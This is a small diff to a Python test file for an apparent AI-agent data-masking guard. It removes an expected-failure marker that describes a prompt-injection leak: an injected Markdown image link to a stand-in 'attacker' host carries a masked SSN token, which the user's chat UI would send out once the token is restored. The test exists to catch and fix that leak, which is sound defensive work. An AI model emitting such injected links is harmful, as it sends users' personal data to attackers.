@@ -1006,11 +1006,6 @@ def test_agent_middleware_exfiltration_gets_only_granted_types(mem: Guard) -> No
     assert out["messages"]  # the run finished
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="unmask(to='user') restores tokens inside URLs (Markdown image/link targets, <img src>): "
-    "an injected ![](https://attacker/?d=[SSN_1]) makes the user's chat UI send the SSN to the attacker",
-)
 @pytest.mark.parametrize(
     "answer",
     [
